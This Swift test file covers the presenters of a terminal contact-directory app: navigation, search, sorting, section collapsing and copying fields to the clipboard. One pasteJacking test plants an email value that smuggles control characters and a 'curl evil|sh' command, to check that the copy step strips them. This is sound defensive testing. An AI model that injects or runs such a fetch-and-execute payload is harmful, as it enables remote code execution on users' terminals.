import Testing
import TestSupport
@testable import RosterCore
@testable import RosterStore

@MainActor
@Suite("List presenter")
struct ListPresenterTests {
    let view = SpyListView()
    let wireframe = SpyListWireframe()
    let presenter: ListPresenter

    /// A hand-written repository: the presenter needs nothing but the protocol.
    init() throws {
        let repository = try FakePeopleRepository(json: Fixtures.seedJSON, sourceName: "seed.json")
        presenter = ListPresenter(interactor: ListInteractor(repository: repository),
                                  arrangement: repository.everyone, wireframe: wireframe)
        presenter.attach(view: view)
    }

    @Test("attaching shows the first person selected, with counts and position")
    func firstModel() throws {
        let model = try #require(view.last)
        #expect(view.models.count == 1)
        #expect(model.sourceName == "seed.json")
        #expect(model.summary == "6 people · 3 companies")
        #expect(model.selectedRow == 1)
        #expect(model.position == "1/6")
        #expect(model.currentCompany == "COMSTAR")
        #expect(model.notice == nil)
        #expect(model.emptyMessage == nil)
    }

    @Test("moving clamps at both ends and skips headers")
    func moving() {
        presenter.moveSelection(by: -1)
        #expect(view.last?.position == "1/6")
        presenter.moveSelection(by: 3)
        #expect(view.last?.position == "4/6")
        #expect(view.last?.selectedRow == 5)
        #expect(view.last?.currentCompany == "PERMADYNE")
        presenter.moveSelection(by: 100)
        #expect(view.last?.position == "6/6")
        #expect(view.last?.selectedRow == 8)
        presenter.selectFirst()
        #expect(view.last?.position == "1/6")
        presenter.selectLast()
        #expect(view.last?.position == "6/6")
    }

    @Test("open, skipped and quit become routes")
    func routes() {
        presenter.moveSelection(by: 2)
        presenter.openSelected()
        presenter.showSkippedRecords()  // nothing skipped: no route
        presenter.quit()
        #expect(wireframe.routes == [.detail(shown: presenter.displayed, position: 2), .quit])
    }

    @Test("an empty directory says so instead of drawing nothing")
    func emptyDirectory() throws {
        let repository = try FakePeopleRepository(json: "[]")
        let view = SpyListView()
        let presenter = ListPresenter(interactor: ListInteractor(repository: repository),
                                      arrangement: repository.everyone, wireframe: wireframe)
        presenter.attach(view: view)
        presenter.moveSelection(by: 1)
        presenter.openSelected()
        #expect(view.last?.emptyMessage == "No people were read from fake.json")
        #expect(view.last?.selectedRow == nil)
        #expect(view.last?.position == "0/0")
        #expect(wireframe.routes.isEmpty)
    }

    @Test("skipped records are counted in a notice and can be listed")
    func skippedNotice() throws {
        let repository = try FakePeopleRepository(json: Fixtures.array([Fixtures.record(), "null", "7", Fixtures.record(first: "B")]))
        let view = SpyListView()
        let presenter = ListPresenter(interactor: ListInteractor(repository: repository),
                                      arrangement: repository.everyone, wireframe: wireframe)
        presenter.attach(view: view)
        presenter.showSkippedRecords()
        #expect(view.last?.notice == "2 skipped (! lists)")
        #expect(wireframe.routes == [.skippedRecords])
    }

    @Test("counts read naturally")
    func counting() {
        #expect(NumberText.count(1, "person", "people") == "1 person")
        #expect(NumberText.count(1_234_567, "person", "people") == "1,234,567 people")
    }
}

@MainActor
@Suite("Detail presenter")
struct DetailPresenterTests {
    @Test("opened from the flat list, the person's company is named, not 'Everyone'")
    func flatListCompany() throws {
        let repository = try FakePeopleRepository(json: Fixtures.array([
            Fixtures.record(first: "Ann", last: "Able", company: "ACME", index: 0),
            Fixtures.record(first: "Bo", last: "Bell", company: nil, index: 1),
        ]))
        let view = SpyDetailView()
        let flat = repository.arrange(sort: .byLastName, byCompany: false, company: nil)
        let presenter = DetailPresenter(interactor: DetailInteractor(repository: repository, arrangement: flat),
                                        position: 0, wireframe: SpyDetailWireframe())
        presenter.attach(view: view)
        #expect(view.models.last?.company == "ACME")
        presenter.showNext()
        #expect(view.models.last?.company == "No company")
    }

    @Test("shows every field, walks the list's order, and goes back to the last shown")
    func walkAndBack() throws {
        let repository = try FakePeopleRepository(json: Fixtures.seedJSON)
        let view = SpyDetailView()
        let wireframe = SpyDetailWireframe()
        let presenter = DetailPresenter(interactor: DetailInteractor(repository: repository, arrangement: repository.everyone),
                                        position: 0, wireframe: wireframe)
        presenter.attach(view: view)
        let first = try #require(view.models.last)
        #expect(first.title == "Bertha Irwin")
        #expect(first.position == "1/6")
        #expect(first.company == "COMSTAR")
        #expect(first.fields.map(\.label) == ["First name", "Last name", "Company", "Email", "Phone", "Address", "Balance",
                                              "Active", "Age", "Eye color", "Favorite fruit", "Picture", "Index", "GUID", "ID"])
        #expect(first.fields.first { $0.label == "Email" }?.value == "bertha.irwin@comstar.net")
        presenter.showPrevious()
        #expect(view.models.count == 1)
        presenter.showNext()
        presenter.showNext()
        presenter.showNext()
        #expect(view.models.last?.title == "Zamora Weber")
        #expect(view.models.last?.company == "PERMADYNE")
        presenter.goBack()
        presenter.quit()
        #expect(wireframe.routes == [.back(position: 3), .quit])
    }

    @Test("missing fields show a dash")
    func missingFields() throws {
        let repository = try FakePeopleRepository(json: #"[{"name": {"first": "Only"}}]"#)
        let presenter = DetailPresenter(interactor: DetailInteractor(repository: repository, arrangement: repository.everyone),
                                        position: 0, wireframe: SpyDetailWireframe())
        let fields = presenter.makeViewModel().fields
        #expect(fields.first { $0.label == "Age" }?.value == "—")
        #expect(fields.first { $0.label == "Active" }?.value == "—")
        #expect(presenter.makeViewModel().company == "No company")
    }
}

@MainActor
@Suite("List presenter: search")
struct ListPresenterSearchTests {
    let view = SpyListView()
    let searcher = ImmediateSearchScheduler()
    let presenter: ListPresenter

    init() throws {
        let directory = try Fixtures.directory(json: Fixtures.seedJSON)
        presenter = ListPresenter(interactor: ListInteractor(repository: directory.repository, scheduler: searcher),
                                  arrangement: directory.everyone, wireframe: SpyListWireframe())
        presenter.attach(view: view)
    }

    @Test("typing narrows within the last result; Backspace searches within the result of a query typed before")
    func backspaceReusesEarlierResults() {
        presenter.beginSearch()
        presenter.editSearch("co")
        let shown = view.last?.position
        for text in ["com", "comstar", "comstar b"] { presenter.editSearch(text) }
        presenter.editSearch("comstar")
        presenter.editSearch("co")
        #expect(searcher.searches == ["co", "com", "comstar", "comstar b", "comstar", "co"])
        #expect(searcher.searchedWithin == [nil, "co", "com", "comstar", "comstar", "co"])
        #expect(view.last?.position == shown)
    }

    @Test("a query with an error keeps the last good result and says what is wrong, and where")
    func badQueryKeepsLastResult() throws {
        presenter.beginSearch()
        presenter.editSearch("comstar")
        presenter.editSearch("comstar agee>3")
        let model = try #require(view.last)
        #expect(model.position == "1/3")
        #expect(model.searchError == SearchErrorModel(error: QueryError("unknown field 'agee': did you mean age? (fields: \(QueryParser.fieldList))", at: 8..<12)))
        // The term with the error is left out: the other terms still narrow the list.
        #expect(searcher.searches == ["comstar", "comstar"])
        // Typed a letter at a time, a field term reads as plain words first
        // (matching no one); once it is a bad field term the list shows the rest again.
        presenter.editSearch("comstar age")
        #expect(view.last?.position == "0/0")
        presenter.editSearch("comstar age>x")
        #expect(view.last?.position == "1/3")
        #expect(view.last?.searchError != nil)
        #expect(ListSearch.text("comstar age>x  jo", withoutTermsOverlapping: 12..<13) == "comstar jo")
        // Enter does not keep a query with an error: the prompt stays open on it.
        presenter.commitSearch()
        #expect(view.last?.searchPrompt == "comstar age>x")
        presenter.editSearch("comstar age>33")
        #expect(view.last?.searchError == nil)
        #expect(view.last?.position == "1/1")
        presenter.editSearch("comstar age>\u{1B}[31m")
        #expect(view.last?.searchError?.message.contains("\u{1B}") == false)
        presenter.cancelSearch()
        #expect(view.last?.searchError == nil)
        #expect(view.last?.filter == nil)
    }

    @Test("typing narrows the list; the prompt shows the text; Enter keeps the filter")
    func typing() throws {
        presenter.beginSearch()
        #expect(view.last?.searchPrompt == "")
        presenter.editSearch("c")
        presenter.editSearch("co")
        presenter.editSearch("coh")
        let model = try #require(view.last)
        #expect(model.searchPrompt == "coh")
        #expect(model.position == "1/1")
        #expect(model.rows.count == 2)
        #expect(model.rows[0] == .header(CompanyHeaderRow(title: "COMSTAR", count: 1, total: 3)))
        #expect(searcher.searches == ["c", "co", "coh"])
        presenter.commitSearch()
        #expect(view.last?.searchPrompt == nil)
        #expect(view.last?.filter == "coh")
    }

    @Test("the selected person stays selected when the filter changes, if they match")
    func keepsSelection() {
        presenter.moveSelection(by: 2)  // Vanessa Sanchez
        presenter.beginSearch()
        presenter.editSearch("a")
        #expect(presenter.selectedID == PersonID(5))
        presenter.cancelSearch()
        #expect(view.last?.position == "3/6")
        #expect(view.last?.filter == nil)
    }

    @Test("Esc in the prompt puts back the filter from before /; Esc on the list clears it")
    func escapeRestores() {
        presenter.beginSearch()
        presenter.editSearch("comstar")
        presenter.commitSearch()
        #expect(view.last?.filter == "comstar")
        presenter.beginSearch()
        #expect(view.last?.searchPrompt == "comstar")
        presenter.editPrompt(.deleteToStart)
        presenter.editPrompt(.insert("irwin"))
        #expect(view.last?.position == "1/1")
        presenter.cancelSearch()
        #expect(view.last?.searchPrompt == nil)
        #expect(view.last?.filter == "comstar")
        #expect(view.last?.position == "1/3")
        #expect(view.last?.rows.count == 4)
        // `/` opens on the filter in force again, and Esc on the list clears it.
        presenter.beginSearch()
        #expect(view.last?.searchPrompt == "comstar")
        presenter.commitSearch()
        presenter.cancelSearch()
        #expect(view.last?.filter == nil)
        #expect(view.last?.position.hasSuffix("/6") == true)
    }

    @Test("Esc in the prompt goes back to the person selected before /, as fzf and less do")
    func escapeRestoresSelection() {
        presenter.moveSelection(by: 2)  // Vanessa Sanchez, 3/6
        presenter.beginSearch()
        presenter.editSearch("irwin")  // lands on Bertha Irwin
        #expect(view.last?.position == "1/1")
        presenter.cancelSearch()
        #expect(view.last?.position == "3/6")
        #expect(presenter.selectedID == PersonID(5))
    }

    @Test("Esc in the prompt with no filter before leaves none; ^U then Enter clears a filter")
    func escapeWithoutFilter() {
        presenter.beginSearch()
        presenter.editSearch("irwin")
        presenter.cancelSearch()
        #expect(view.last?.filter == nil)
        #expect(view.last?.position.hasSuffix("/6") == true)
        presenter.beginSearch()
        presenter.editSearch("irwin")
        presenter.commitSearch()
        presenter.beginSearch()
        presenter.editPrompt(.deleteToStart)
        presenter.commitSearch()
        #expect(view.last?.filter == nil)
    }

    @Test("the prompt edits at its cursor and searches as the text changes, not as the cursor moves")
    func editing() {
        presenter.beginSearch()
        for character in "irin" { presenter.editPrompt(.insert(String(character))) }
        presenter.editPrompt(.moveLeft)
        presenter.editPrompt(.moveLeft)
        presenter.editPrompt(.insert("w"))
        #expect(view.last?.searchPrompt == "irwin")
        #expect(view.last?.promptCursor == 3)
        presenter.editPrompt(.moveToEnd)
        presenter.editPrompt(.moveToStart)
        #expect(view.last?.promptCursor == 0)
        #expect(searcher.searches == ["i", "ir", "iri", "irin", "irwin"])
        #expect(view.last?.position == "1/1")
    }

    @Test("↑ recalls the searches kept with Enter, and the list follows")
    func history() {
        for text in ["irwin", "comstar"] {
            presenter.beginSearch()
            presenter.editSearch(text)
            presenter.commitSearch()
        }
        presenter.beginSearch()
        presenter.editPrompt(.deleteToStart)
        presenter.editPrompt(.previousEntry)
        #expect(view.last?.searchPrompt == "comstar")
        presenter.editPrompt(.previousEntry)
        #expect(view.last?.searchPrompt == "irwin")
        #expect(view.last?.position == "1/1")
        presenter.editPrompt(.nextEntry)
        presenter.editPrompt(.nextEntry)
        #expect(view.last?.searchPrompt == "")
        #expect(view.last?.promptCursor == 0)
    }

    @Test("no match says so instead of a blank screen")
    func noMatch() {
        presenter.beginSearch()
        presenter.editSearch("xyz")
        #expect(view.last?.emptyMessage == "No people match 'xyz'")
        #expect(view.last?.position == "0/0")
        presenter.editSearch("")
        #expect(view.last?.position == "1/6")
    }
}

@MainActor
@Suite("Detail presenter: copy")
struct DetailCopyTests {
    /// The detail of the first person of `json`, with a clipboard and a view that record.
    static func detail(json: String) throws -> (DetailPresenter, SpyClipboard, SpyDetailView) {
        let directory = try Fixtures.directory(json: json)
        let clipboard = SpyClipboard()
        let view = SpyDetailView()
        let presenter = DetailPresenter(interactor: DetailInteractor(repository: directory.repository, arrangement: directory.everyone),
                                        position: 0, wireframe: SpyDetailWireframe(), clipboard: clipboard)
        presenter.attach(view: view)
        return (presenter, clipboard, view)
    }

    @Test("y copies the email and says so only when the copy was written")
    func copy() throws {
        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.seedJSON)
        presenter.copyField()
        #expect(clipboard.copied == ["bertha.irwin@comstar.net"])
        #expect(view.models.last?.status == "sent bertha.irwin@comstar.net to the terminal's clipboard")
        presenter.showNext()
        #expect(view.models.last?.status == nil)
        clipboard.succeeds = false
        presenter.copyField()
        #expect(view.models.last?.status == "could not copy")
    }

    @Test("y copies only printable text: a newline and a command in an email never reach the clipboard")
    func pasteJacking() throws {
        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.array([
            Fixtures.record(email: "a@x.test\n\u{1B}[201~curl evil|sh\n\u{202E}", index: 0),
        ]))
        presenter.copyField()
        #expect(clipboard.copied == ["a@x.test[201~curl evil|sh"])
        #expect(view.models.last?.status == "sent a@x.test[201~curl evil|sh to the terminal's clipboard (4 control characters left out)")
    }

    @Test("Tab moves the field cursor (wrapping), which stays as ↑/↓ walk people; y copies that field as stored")
    func fieldCursor() throws {
        let (presenter, clipboard, view) = try Self.detail(json: Fixtures.seedJSON)
        #expect(view.models.last?.selectedField == 3)
        presenter.moveFieldCursor(by: 1)
        presenter.copyField()
        presenter.showNext()
        presenter.copyField()
        presenter.moveFieldCursor(by: 2)
        presenter.copyField()
        #expect(clipboard.copied == ["+1 (806) 584-3949", "+1 (953) 454-3801", "$3,334.51"])
        #expect(view.models.last?.status == "sent $3,334.51 to the terminal's clipboard")
        presenter.moveFieldCursor(by: -7)
        #expect(view.models.last?.selectedField == 14)
        presenter.copyField()
        #expect(view.models.last?.fields[14].label == "ID")
        #expect(clipboard.copied.count == 4)
    }
}

@MainActor
@Suite("List presenter: collapsing companies")
struct ListPresenterCollapseTests {
    @Test("Space collapses the selected person's company; moves step over it; Enter or Space expands")
    func collapse() throws {
        let directory = try Fixtures.directory(json: Fixtures.seedJSON)
        let view = SpyListView()
        let presenter = ListPresenter(interactor: ListInteractor(repository: directory.repository),
                                      arrangement: directory.everyone, wireframe: SpyListWireframe())
        presenter.attach(view: view)
        presenter.moveSelection(by: 1)  // Cohen James, COMSTAR
        presenter.toggleSection()
        var model = try #require(view.last)
        #expect(model.rows.count == 6)  // COMSTAR header alone, PERMADYNE 1+1, RECRISYS 1+2
        #expect(model.rows[0] == .header(CompanyHeaderRow(title: "COMSTAR", count: 3, total: 3, isCollapsed: true)))
        #expect(model.selectedRow == 0)
        #expect(model.position == "1/6")
        presenter.moveSelection(by: 1)
        #expect(view.last?.position == "4/6")  // Zamora Weber, past the collapsed three
        #expect(view.last?.selectedRow == 2)
        presenter.moveSelection(by: -1)
        #expect(view.last?.selectedRow == 0)  // back onto the collapsed header
        presenter.openSelected()  // Enter on a collapsed company expands it
        model = try #require(view.last)
        #expect(model.rows.count == 9)
        #expect(presenter.collapsedCompanies.isEmpty)
        presenter.selectLast()
        presenter.toggleSection()  // RECRISYS
        presenter.selectFirst()
        presenter.selectLast()
        #expect(view.last?.position == "5/6")  // the collapsed last company's first person
        #expect(presenter.place.collapsedCompanies == ["RECRISYS"])
    }
}

@MainActor
@Suite("List presenter: a new order and what happens while it sorts")
struct ArrangingTests {
    static func presenter() throws -> (ListPresenter, SpyListView, ManualSearchScheduler, LoadedDirectory) {
        let directory = try Fixtures.directory(json: Fixtures.seedJSON)
        let view = SpyListView()
        let scheduler = ManualSearchScheduler()
        let presenter = ListPresenter(interactor: ListInteractor(repository: directory.repository, scheduler: scheduler),
                                      arrangement: directory.everyone, wireframe: SpyListWireframe())
        presenter.attach(view: view)
        return (presenter, view, scheduler, directory)
    }

    static func names(_ presenter: ListPresenter, _ directory: LoadedDirectory) -> [String] {
        directory.repository.rowsAtOnce(in: presenter.displayed, positions: 0..<presenter.displayed.count).map(\.lastName)
    }

    @Test("a filter whose search ends after a new order lands is shown in that order (--filter with --sort)")
    func filterThenOrder() throws {
        let (presenter, view, scheduler, directory) = try Self.presenter()
        presenter.applySortOrder(SortOrder(.age, descending: true))
        presenter.applyFilter("comstar")
        #expect(view.last?.sortLabel == "age ↓ (sorting…)")
        scheduler.finishArrangements()
        scheduler.finishSearches()  // computed on the old order, delivered after the new one
        #expect(view.last?.sortLabel == "age ↓")
        #expect(view.last?.filter == "comstar")
        #expect(Self.names(presenter, directory) == ["Irwin", "James", "Sanchez"])  // ages 35, 33, 32
        #expect(presenter.selection == 0)
    }

    @Test("a filter still searching says so in the status line, over the people still shown; its result replaces the note")
    func filterSearching() throws {
        let (presenter, view, scheduler, _) = try Self.presenter()
        presenter.applyFilter("comstar")
        #expect(view.last?.filter == "comstar" && view.last?.isFilterPending == true)
        #expect(view.last?.position == "1/6")
        scheduler.finishSearches()
        #expect(view.last?.filter == "comstar" && view.last?.isFilterPending == false)
        #expect(view.last?.position == "1/3")
        presenter.beginSearch()
        presenter.editSearch("irwin")
        #expect(view.last?.filter == "comstar", "typing at the prompt: the prompt shows the query")
        #expect(view.last?.position == "1/3 searching…", "beside the prompt, the count of the result still shown, and that a new one is coming")
        scheduler.finishSearches()
        #expect(view.last?.position == "1/1")
    }

    @Test("keys typed while a new order is sorted act on the new order: s then g goes to its top")
    func keysWait() async throws {
        let (presenter, view, scheduler, directory) = try Self.presenter()
        presenter.moveSelection(by: 2)
        presenter.cycleSortOrder()  // first name
        presenter.selectFirst()
        presenter.moveSelection(by: 1)
        #expect(presenter.selection == 2)  // nothing moved yet
        scheduler.finishArrangements()
        #expect(view.last?.sortLabel == "first name ↑")
        let firstNames = try await directory.repository.rows(in: presenter.displayed, positions: 0..<presenter.displayed.count).map(\.firstName)
        #expect(firstNames.prefix(2) == ["Bertha", "Cohen"])
        #expect(presenter.selection == 1)  // g, then one down, in the new order
    }

    @Test("--sort without a remembered place starts at the top of the new order")
    func startingOrderSelectsFirst() async throws {
        let (presenter, _, scheduler, directory) = try Self.presenter()
        presenter.applySortOrder(SortOrder(.balance, descending: true))
        scheduler.finishArrangements()
        #expect(presenter.selection == 0)
        #expect(try await directory.repository.rows(in: presenter.displayed, positions: 0..<1).first?.lastName == "James")  // the richest
    }
}
